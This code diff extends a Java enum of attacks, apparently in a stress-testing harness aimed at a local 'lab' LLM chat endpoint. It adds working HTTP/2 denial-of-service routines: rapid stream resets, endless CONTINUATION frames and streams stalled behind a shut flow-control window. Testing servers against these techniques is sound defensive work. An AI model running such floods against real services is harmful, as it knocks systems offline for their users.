@@ -128,7 +128,43 @@ enum Attack {
       send(socket, "POST /x HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n");
       untilClosed(socket, siege);
     }
+  },
+  RAPID_RESETS("HTTP/2 streams that are reset at once", 0.05) {
+    @Override
+    void press(Socket socket, Siege siege) throws Exception {
+      OutputStream out = socket.getOutputStream();
+      out.write(new Http2Writer().preface().bytes());
+      for (int stream = 1; !siege.over(); stream += 2) {
+        out.write(flood(new Http2Writer(), stream).reset(stream, CANCEL).bytes());
+      }
+    }
+  },
+  CONTINUATIONS("HTTP/2 headers that never end", 0.05) {
+    @Override
+    void press(Socket socket, Siege siege) throws Exception {
+      OutputStream out = socket.getOutputStream();
+      byte[] more = new Http2Writer().frame(Http2Writer.CONTINUATION, 0, 1, PIECE).bytes();
+      out.write(new Http2Writer().preface().frame(Http2Writer.HEADERS, 0, 1, PIECE).bytes());
+      while (!siege.over()) {
+        out.write(more);
+      }
+    }
+  },
+  SHUT_WINDOWS("HTTP/2 streams of 32 MB behind a shut window", 0.02) {
+    @Override
+    void press(Socket socket, Siege siege) throws Exception {
+      Http2Writer frames = new Http2Writer().preface().setting(INITIAL_WINDOW_SIZE, 0);
+      for (int i = 0; i < 100; i++) {
+        flood(frames, 2 * i + 1);
+      }
+      socket.getOutputStream().write(frames.bytes());
+      siege.await();
+    }
   };
+
+  private static final int CANCEL = 8;
+  private static final int INITIAL_WINDOW_SIZE = 4;
+  private static final byte[] PIECE = new byte[16_000];
 
   private final String what;
   private final double share;
@@ -173,13 +209,34 @@ enum Attack {
 
   /// A call to the engine of a siege.
   static String call(String content, boolean stream) {
-    String body =
-        "{\"model\":\"lab\",\"stream\":"
-            + stream
-            + ",\"messages\":[{\"role\":\"user\",\"content\":\""
-            + content
-            + "\"}]}";
+    String body = body(content, stream);
     return head(body.length()) + body;
+  }
+
+  private static Http2Writer flood(Http2Writer frames, int stream) {
+    return frames
+        .headers(
+            stream,
+            false,
+            ":method",
+            "POST",
+            ":scheme",
+            "http",
+            ":path",
+            "/v1/chat/completions",
+            ":authority",
+            "localhost",
+            "content-type",
+            "application/json")
+        .data(stream, true, body("flood", true));
+  }
+
+  private static String body(String content, boolean stream) {
+    return "{\"model\":\"lab\",\"stream\":"
+        + stream
+        + ",\"messages\":[{\"role\":\"user\",\"content\":\""
+        + content
+        + "\"}]}";
   }
 
   private static String head(int length) {
